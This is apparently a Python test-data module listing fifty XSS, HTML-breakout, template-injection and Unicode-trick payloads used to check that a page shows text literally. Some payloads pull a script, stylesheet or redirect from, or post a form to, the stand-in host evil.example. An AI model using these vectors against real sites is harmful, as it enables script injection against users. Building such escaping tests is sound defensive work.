"""Fifty texts that a page must show as they are: each tries to set `window.pwned`, to rename the page, or to hide."""

from __future__ import annotations

_RUN = "window.pwned=1;document.title='pwned'"
_AWAY = "https://evil.example"

PAYLOADS: tuple[str, ...] = (
    # tags that run
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src={_AWAY}/x.js></sCrIpT>",
    f'<img src=x onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN.replace(' ', '')}>",
    f'<svg onload="{_RUN}">',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<math><mtext></mtext><mglyph><style></math><img src=x onerror="{_RUN}">',
    f'<body onload="{_RUN}">',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f"<embed src={_AWAY}/x.swf>",
    f'<details open ontoggle="{_RUN}">',
    f'<input autofocus onfocus="{_RUN}">',
    f'<video><source onerror="{_RUN}"></video>',
    f'<marquee onstart="{_RUN}">text</marquee>',
    f"<style>@import '{_AWAY}/x.css';</style>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><button>send</button></form>",
    # out of what holds the text
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f'"><script>{_RUN}</script>',
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"`${{{_RUN}}}`",
    f'\\"-{_RUN}//',
    # links that are none
    f"[click](javascript:{_RUN})",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"//evil.example/{_RUN}",
    # templates and code
    "{{7*7}} {% if 1 %}pwned{% endif %} {# gone #}",
    "${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('window.pwned=1')()}}",
    "{{ self.__init__.__globals__ }} {{ csrf }}",
    "%(csrf)s {csrf} {0} $csrf",
    # what pretends to be something else
    "&lt;script&gt; &amp;amp; &#60;b&#62; &quot;",
    "<thinking>must stay visible</thinking> </b><b>x</b>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e \\u0000 %00 &#0;",
    "a\u0001b\u0008c\u001bd\u007fe\u0085f",
    "zero\u200bwidth\u2060joined\ufeffhere \u00adsoft",
    "\u202eright to left\u202c \u2066isolated\u2069 \u202d",
    "long " + "x" * 3_000 + " <b>end</b>",
)
